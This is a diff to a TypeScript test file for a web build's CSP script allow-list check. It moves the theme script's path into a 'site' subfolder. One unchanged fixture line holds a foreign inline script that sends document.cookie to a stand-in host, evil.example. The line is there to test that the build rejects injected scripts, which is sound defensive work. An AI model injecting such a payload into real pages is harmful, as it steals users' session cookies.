@@ -16,7 +16,7 @@ import { commandEnv } from "../support/scratchProject.ts";
 const OWN = "\n  document.documentElement.dataset.js = \"\";\n";
 const FOREIGN = "fetch('https://evil.example/?c=' + document.cookie)";
 const page = (body: string) => `<!doctype html><html><head><meta charset="utf-8"><script>${OWN}</script></head><body>${body}</body></html>`;
-const own = new Map([[sha256(OWN), "src/components/ThemeScript.astro"]]);
+const own = new Map([[sha256(OWN), "src/components/site/ThemeScript.astro"]]);
 
 const made: string[] = [];
 afterAll(() => {
@@ -87,9 +87,9 @@ describe("the CSP step's script allow-list", () => {
 describe("the project's own inline scripts", () => {
   it("are read from src/'s is:inline scripts: the theme script, exactly as written", () => {
     const scripts = ownInlineScripts(PROJECT_ROOT);
-    const source = readFileSync(path.join(PROJECT_ROOT, "src/components/ThemeScript.astro"), "utf8");
+    const source = readFileSync(path.join(PROJECT_ROOT, "src/components/site/ThemeScript.astro"), "utf8");
     const text = /<script is:inline>([\s\S]*?)<\/script>/.exec(source)![1]!;
-    expect(scripts.get(sha256(text))).toBe("src/components/ThemeScript.astro");
+    expect(scripts.get(sha256(text))).toBe("src/components/site/ThemeScript.astro");
     expect([...scripts.values()].every((f) => f.startsWith("src/") && f.endsWith(".astro"))).toBe(true);
   });
 
@@ -105,7 +105,7 @@ describe("the project's own inline scripts", () => {
 
 describe("scripts/csp.ts (the build's CSP step)", () => {
   it("exits 1 on a foreign inline script, naming the page; the project's own script passes", () => {
-    const source = readFileSync(path.join(PROJECT_ROOT, "src/components/ThemeScript.astro"), "utf8");
+    const source = readFileSync(path.join(PROJECT_ROOT, "src/components/site/ThemeScript.astro"), "utf8");
     const theme = /<script is:inline>([\s\S]*?)<\/script>/.exec(source)![1]!;
     const ownPage = (body: string) => `<!doctype html><html><head><meta charset="utf-8"><script>${theme}</script></head><body>${body}</body></html>`;
     const run = (dir: string) => spawnSync(process.execPath, ["--experimental-strip-types", path.join(PROJECT_ROOT, "scripts", "csp.ts"), dir, "--write"],
